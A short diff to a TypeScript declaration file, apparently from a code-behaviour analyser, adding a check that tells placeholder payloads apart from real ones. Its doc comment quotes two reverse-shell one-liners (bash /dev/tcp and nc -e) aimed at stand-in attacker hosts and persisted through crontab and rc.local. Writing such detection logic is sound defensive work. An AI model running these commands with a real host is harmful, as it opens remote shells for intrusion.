@@ -6,5 +6,12 @@ import type { BehaviourOf, Value } from '../../analysis/facts.js';
  * `[scriptblock]::Create`, a web request).
  */
 export declare function runsCode(v: Value | undefined): boolean;
+/**
+ * Code that runs each time it loads, but whose every connection goes to a write-up's placeholder host
+ * (`bash -i >& /dev/tcp/ATTACKER/4444 0>&1` in a crontab line, `nc ATTACKER_IP 5555 -e /bin/sh` in
+ * rc.local): a technique shown with the reader's own box left to fill in, not a payload that reaches
+ * anyone as written. A variable or an ordinary host is not a placeholder.
+ */
+export declare function placeholderPayload(v: Value | undefined): boolean;
 /** `.git/hooks/x` of this clone written from a file of the repository, nothing downloaded or decoded. */
 export declare function ownHook(b: BehaviourOf<'write'>): boolean;
